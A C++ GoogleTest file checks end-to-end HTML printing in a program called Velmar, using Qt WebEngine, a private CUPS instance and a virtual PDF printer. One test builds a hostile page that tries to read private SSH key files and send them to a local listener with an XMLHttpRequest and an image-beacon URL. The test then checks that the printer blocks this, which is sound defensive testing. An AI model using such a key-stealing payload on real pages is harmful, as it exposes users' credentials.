// HTML printing end to end: the real program prints through Qt WebEngine into a private CUPS whose virtual
// PDF printer (cups-pdf) writes each job as a PDF, read back with pdftotext. A start with a PRINTHTML job
// prints by itself when no window runs and hands the job over when one does (so does "velmar-client
// print"); the prompt's print dialog is accepted as a person would. A printed page is saved as a picture
// in the build folder.
#include <unistd.h>
#include <gtest/gtest.h>
#include <sys/stat.h>

#include <algorithm>
#include <optional>
#include <sstream>

#include "harness/FreePort.h"
#include "harness/ShellCommand.h"
#include "harness/XDesktop.h"
#include "tests/ServiceFixture.h"

namespace {

using namespace velmar::test;
namespace fs = std::filesystem;

const fs::path kScreenshots = fs::path(VELMAR_BUILD_DIR) / "screenshots";

class PrintTest : public CServiceTest {
protected:
    void SetUp() override {
        CServiceTest::SetUp();
        // cups-pdf runs as root only, and only root may start it.
        if (geteuid() != 0) GTEST_SKIP() << "the virtual PDF printer needs root";
        m_cups = m_dir / "cups";
        ASSERT_EQ(CommandOutput("bash " VELMAR_CUPS_INSTANCE " start '" + m_cups.string() + "' VelmarPDF"),
                  "READY\n");
        SetEnvironment("CUPS_SERVER", (m_cups / "cups.sock").string());
        SetEnvironment("QTWEBENGINE_DISABLE_SANDBOX", "1");
        // Qt WebEngine's Chromium frees an object of its own through a pointer of another size when a page
        // goes; AddressSanitizer would end the printing program there, though none of it is ours.
        const char* asan = std::getenv("ASAN_OPTIONS");
        SetEnvironment("ASAN_OPTIONS", std::string(asan ? asan : "") + ":new_delete_type_mismatch=0");
        UseOwnHome();
        unsetenv("DISPLAY");
        unsetenv("WAYLAND_DISPLAY");
    }
    void TearDown() override {
        CServiceTest::TearDown();
        if (!m_cups.empty()) CommandOutput("bash " VELMAR_CUPS_INSTANCE " stop '" + m_cups.string() + "'");
    }

    std::string Html(const std::string& name, const std::string& body, const std::string& head = "") {
        WriteFile(m_dir / name, "<html><head>" + head + "</head><body>" + body + "</body></html>");
        return (m_dir / name).string();
    }

    // A start of the program with a PRINTHTML job; its exit code once it has ended.
    std::optional<int> PrintStart(const std::vector<std::string>& strings, const std::string& log) {
        std::vector<std::string> arguments{"PRINTHTML"};
        arguments.insert(arguments.end(), strings.begin(), strings.end());
        CServiceProcess start(VELMAR_SERVICE_PROGRAM, arguments, (m_dir / log).string());
        return start.WaitForExit(120000);
    }

    // The PDFs the printer made, oldest first, once there are count of them and CUPS has no job left.
    std::vector<fs::path> PrintedPdfs(size_t count) {
        std::vector<fs::path> pdfs;
        for (int i = 0; i < 600; ++i) {
            pdfs.clear();
            for (const auto& entry : fs::directory_iterator(m_cups / "pdf"))
                if (entry.path().extension() == ".pdf") pdfs.push_back(entry.path());
            if (pdfs.size() >= count && CommandOutput("lpstat -o").empty()) break;
            std::this_thread::sleep_for(std::chrono::milliseconds(100));
        }
        std::sort(pdfs.begin(), pdfs.end(), [](const fs::path& a, const fs::path& b) {
            return fs::last_write_time(a) < fs::last_write_time(b);
        });
        return pdfs;
    }
    static std::string Text(const fs::path& pdf) {
        return CommandOutput("pdftotext -enc UTF-8 '" + pdf.string() + "' -");
    }

    void StartWindow() {
        m_desktop.emplace(true);
        ASSERT_TRUE(m_desktop->Ready()) << "Xvfb did not start";
        m_service.emplace(VELMAR_SERVICE_PROGRAM, std::vector<std::string>{},
                          (m_dir / "window.log").string());
        // The window takes print jobs once its own socket is there.
        for (int i = 0; i < 200 && !fs::exists(m_dir / "service.sock.print"); ++i)
            std::this_thread::sleep_for(std::chrono::milliseconds(50));
        ASSERT_TRUE(fs::exists(m_dir / "service.sock.print"));
    }

    fs::path m_cups;
    std::optional<CXDesktop> m_desktop;
};

TEST_F(PrintTest, AStartWithoutAWindowPrintsItsJobsInOrderAndEnds) {
    const std::string plain = Html("brief.html", "<h1>Grüße aus Köln</h1><p>Straße, Maß und Öl</p>");
    // Declared Latin-1: the text is read in the encoding the file declares.
    WriteFile(m_dir / "latin.html",
              "<html><head><meta charset=\"iso-8859-1\"></head><body><p>Gr\xfc\xdf"
              "e in Latin-1</p></body></html>");
    const std::string latin = (m_dir / "latin.html").string();
    WriteFile(m_dir / "druck.css", "h1::after { content: \" [Vorlage angewandt]\"; }\n");
    const std::string withTemplate = Html("vorlage.html", "<h1>Rechnung 7</h1>");
    const std::string styleSheet = "file://" + (m_dir / "druck.css").string();
    // Three complete groups and four strings more, which make no job.
    ASSERT_EQ(PrintStart({plain, "*", "*", "0", "*",                                //
                          latin, "*", "*", "0", "VelmarPDF",                        //
                          withTemplate, "res://vorlage.htm", styleSheet, "0", "*",  //
                          "rest.html", "*", "*", "0"},
                         "start.log"),
              0);
    const std::vector<fs::path> pdfs = PrintedPdfs(3);
    ASSERT_EQ(pdfs.size(), 3u);
    EXPECT_NE(Text(pdfs[0]).find("Grüße aus Köln"), std::string::npos) << Text(pdfs[0]);
    EXPECT_NE(Text(pdfs[0]).find("Straße, Maß und Öl"), std::string::npos);
    EXPECT_NE(Text(pdfs[1]).find("Grüße in Latin-1"), std::string::npos) << Text(pdfs[1]);
    EXPECT_NE(Text(pdfs[2]).find("Rechnung 7 [Vorlage angewandt]"), std::string::npos) << Text(pdfs[2]);
    // Vector output: the page is text, not a picture of it.
    EXPECT_EQ(CommandOutput("pdfimages -list '" + pdfs[0].string() + "' | tail -n +3 | wc -l"), "0\n");

    EXPECT_FALSE(fs::exists(plain)) << "printed without a template: the file goes";
    EXPECT_FALSE(fs::exists(latin));
    EXPECT_TRUE(fs::exists(withTemplate)) << "the template path keeps its file";
    const std::string log = ReadFile(m_dir / "start.log");
    EXPECT_EQ(CountOf(log, "Html Dokument ausdrucken\n"), 3u) << log;
    EXPECT_EQ(CountOf(log, "Html Dokument gedruckt: "), 3u) << log;

    fs::create_directories(kScreenshots);
    CommandOutput("pdftoppm -png -r 60 -singlefile '" + pdfs[0].string() + "' '" +
                  (kScreenshots / "print-page").string() + "'");
    EXPECT_TRUE(fs::exists(kScreenshots / "print-page.png"));
}

// A page that tries to read the user's files and send them out prints its own text and nothing else: no
// script of it runs, it reads files of its own folder and below only (a link there that leads out
// included), and it reaches no other host. Its own pictures and style sheets still print.
TEST_F(PrintTest, AHostilePagePrintsOnlyItselfAndReachesNothingOutside) {
    CSilentLoopbackServer listener;
    ASSERT_GT(listener.Port(), 0);
    const std::string host = "http://127.0.0.1:" + std::to_string(listener.Port());
    for (const char* name : {"id_rsa", "id_rsa2", "id_rsa3", "id_rsa4"})
        WriteFile(m_dir / "private" / name, std::string("GEHEIM-") + name + "\n");
    WriteFile(m_dir / "page" / "teil" / "teil.html", "<p>Unterordner</p>");
    fs::create_symlink(m_dir / "private" / "id_rsa4", m_dir / "page" / "link.txt");
    WriteFile(m_dir / "page" / "seite.css", "h1::after { content: \" [Stil der Seite]\"; }\n");
    // A one-pixel PNG of the page's folder.
    const std::string png = CommandOutput(
        "printf "
        "'iVBORw0KGgoAAAANSUhEUgAAAAEAAAABCAYAAAAfFcSJAAAADUlEQVR42mP8z8BQDwAEhQGAhKmMIQAAAABJRU5ErkJggg==' "
        "| base64 -d");
    WriteFile(m_dir / "page" / "bild.png", png);
    const std::string leak = "new Image().src='" + host + "/leak?'+encodeURIComponent(t)";
    WriteFile(m_dir / "page" / "seite.html",
              "<html><head><link rel=\"stylesheet\" href=\"seite.css\">"
              "<link rel=\"stylesheet\" href=\"" +
                  host +
                  "/fremd.css\"></head><body>"
                  "<h1>Eigener Text</h1><img src=\"bild.png\" width=\"96\" height=\"96\">"
                  "<iframe src=\"teil/teil.html\"></iframe>"
                  "<iframe src=\"../private/id_rsa\"></iframe>"
                  "<iframe src=\"file://" +
                  (m_dir / "private" / "id_rsa2").string() +
                  "\"></iframe>"
                  "<object data=\"../private/id_rsa3\" type=\"text/plain\"></object>"
                  "<iframe src=\"link.txt\"></iframe>"
                  "<img src=\"" +
                  host +
                  "/pixel.png\">"
                  "<script>document.body.insertAdjacentHTML('beforeend','<p>SKRIPT-LIEF</p>');"
                  "var x=new XMLHttpRequest();x.open('GET','../private/id_rsa',false);x.send();var "
                  "t=x.responseText;" +
                  leak + ";</script></body></html>");
    ASSERT_EQ(PrintStart({(m_dir / "page" / "seite.html").string(), "*", "*", "0", "*"}, "start.log"), 0);
    const std::vector<fs::path> pdfs = PrintedPdfs(1);
    ASSERT_EQ(pdfs.size(), 1u) << ReadFile(m_dir / "start.log");
    const std::string text = Text(pdfs[0]);
    EXPECT_NE(text.find("Eigener Text [Stil der Seite]"), std::string::npos) << text;
    EXPECT_NE(text.find("Unterordner"), std::string::npos)
        << "a frame of a file below the page's folder" << text;
    EXPECT_EQ(text.find("GEHEIM"), std::string::npos) << text;
    EXPECT_EQ(text.find("SKRIPT-LIEF"), std::string::npos) << "no script of the page runs";
    // The page's own picture, an inch wide at the printer's 300 dots (a refused one may leave the engine's
    // small broken-image mark beside it).
    EXPECT_EQ(
        CommandOutput("pdfimages -list '" + pdfs[0].string() + "' | awk '$4 == 300 && $5 == 300' | wc -l"),
        "1\n")
        << CommandOutput("pdfimages -list '" + pdfs[0].string() + "'");
    EXPECT_FALSE(listener.SomebodyConnected()) << "nothing reached another host";
}

TEST_F(PrintTest, JobsThatCannotPrintAreTracedAndKeepTheirFiles) {
    const std::string good = Html("gut.html", "<p>Dieser Auftrag kommt durch</p>");
    const std::string toNowhere = Html("nirgends.html", "<p>Kein solcher Drucker</p>");
    // A FIFO nobody writes to is no document, and holds up nothing.
    const std::string pipe = (m_dir / "rohr.html").string();
    ASSERT_EQ(mkfifo(pipe.c_str(), 0600), 0);
    ASSERT_EQ(PrintStart({(m_dir / "fehlt.html").string(),
                          "*",
                          "*",
                          "0",
                          "*",  //
                          pipe,
                          "*",
                          "*",
                          "0",
                          "*",  //
                          toNowhere,
                          "*",
                          "*",
                          "0",
                          "GibtEsNicht",  //
                          good,
                          "*",
                          "*",
                          "0",
                          "*"},
                         "start.log"),
              0);
    const std::vector<fs::path> pdfs = PrintedPdfs(1);
    ASSERT_EQ(pdfs.size(), 1u);
    EXPECT_NE(Text(pdfs[0]).find("Dieser Auftrag kommt durch"), std::string::npos);
    const std::string log = ReadFile(m_dir / "start.log");
    EXPECT_NE(log.find("Html Dokument kann nicht gedruckt werden: " + (m_dir / "fehlt.html").string()),
              std::string::npos)
        << log;
    EXPECT_NE(log.find("Html Dokument kann nicht gedruckt werden: " + pipe), std::string::npos) << log;
    EXPECT_NE(log.find("Html Dokument nicht gedruckt: " + toNowhere + ": Drucker GibtEsNicht"),
              std::string::npos)
        << log;
    EXPECT_TRUE(fs::exists(toNowhere)) << "a job that did not print keeps its file";
    EXPECT_FALSE(fs::exists(good));

    // As root with WebEngine's sandbox on, nothing prints, the reason is given, and the process lives on.
    unsetenv("QTWEBENGINE_DISABLE_SANDBOX");
    const std::string kept = Html("bleibt.html", "<p>x</p>");
    ASSERT_EQ(PrintStart({kept, "*", "*", "0", "*"}, "sandbox.log"), 0);
    const std::string sandbox = ReadFile(m_dir / "sandbox.log");
    EXPECT_NE(sandbox.find("QTWEBENGINE_DISABLE_SANDBOX=1"), std::string::npos) << sandbox;
    EXPECT_NE(sandbox.find("Html Dokument kann nicht gedruckt werden: " + kept), std::string::npos);
    EXPECT_TRUE(fs::exists(kept));
}

TEST_F(PrintTest, ARunningWindowTakesJobsFromLaterStartsAndFromTheClient) {
    StartWindow();
    const std::string first = Html("erster.html", "<p>Erster Auftrag an das Fenster</p>");
    const std::string second = Html("zweiter.html", "<p>Zweiter Auftrag vom Client</p>");
    ASSERT_EQ(PrintStart({first, "*", "*", "0", "*", "neun.html", "*", "*", "0"}, "start.log"), 0);
    EXPECT_NE(
        ReadFile(m_dir / "start.log").find("Druckauftrag an das laufende VelmarTaskScheduler übergeben"),
        std::string::npos);
    ASSERT_EQ(PrintedPdfs(1).size(), 1u) << "the window printed the one complete group";

    const std::string client = CommandOutput(std::string(VELMAR_CLIENT_PROGRAM) + " print '" + second +
                                             "' '*' '*' 0 VelmarPDF; echo \"exit $?\"");
    EXPECT_EQ(client, "exit 0\n");
    const std::vector<fs::path> pdfs = PrintedPdfs(2);
    ASSERT_EQ(pdfs.size(), 2u);
    EXPECT_NE(Text(pdfs[0]).find("Erster Auftrag"), std::string::npos);
    EXPECT_NE(Text(pdfs[1]).find("Zweiter Auftrag vom Client"), std::string::npos);
    for (int i = 0; i < 100 && fs::exists(second); ++i)
        std::this_thread::sleep_for(std::chrono::milliseconds(50));
    EXPECT_FALSE(fs::exists(first));
    EXPECT_FALSE(fs::exists(second));

    // A client's job without a window to take it, or an incomplete one, is refused.
    EXPECT_EQ(CommandOutput(std::string(VELMAR_CLIENT_PROGRAM) + " print a.html '*' '*' 0; echo \"exit $?\""),
              "exit 4\n");
    m_service->Signal(SIGTERM);
    ASSERT_EQ(m_service->WaitForExit(20000), 0);
    EXPECT_EQ(CommandOutput(std::string(VELMAR_CLIENT_PROGRAM) + " print '" + second +
                            "' '*' '*' 0 '*'; echo \"exit $?\""),
              "exit 3\n");
}

TEST_F(PrintTest, PromptOneShowsThePrintDialogWhichPrintsWhenAccepted) {
    StartWindow();
    const std::string page = Html("frage.html", "<p>Mit Druckdialog gedruckt</p>");
    ASSERT_EQ(PrintStart({page, "*", "*", "1", "*"}, "start.log"), 0);
    const std::string dialog = m_desktop->WaitForWindow("Drucken");
    ASSERT_FALSE(dialog.empty()) << "no print dialog";
    std::this_thread::sleep_for(std::chrono::milliseconds(500));
    fs::create_directories(kScreenshots);
    m_desktop->Run("import -window " + dialog + " '" + (kScreenshots / "print-dialog.png").string() + "'");
    EXPECT_TRUE(fs::exists(kScreenshots / "print-dialog.png"));
    // Return presses the dialog's default button, "Print", with the default printer chosen.
    m_desktop->Run("xdotool windowfocus --sync " + dialog + " key Return");
    const std::vector<fs::path> pdfs = PrintedPdfs(1);
    ASSERT_EQ(pdfs.size(), 1u);
    EXPECT_NE(Text(pdfs[0]).find("Mit Druckdialog gedruckt"), std::string::npos);
}

}  // namespace
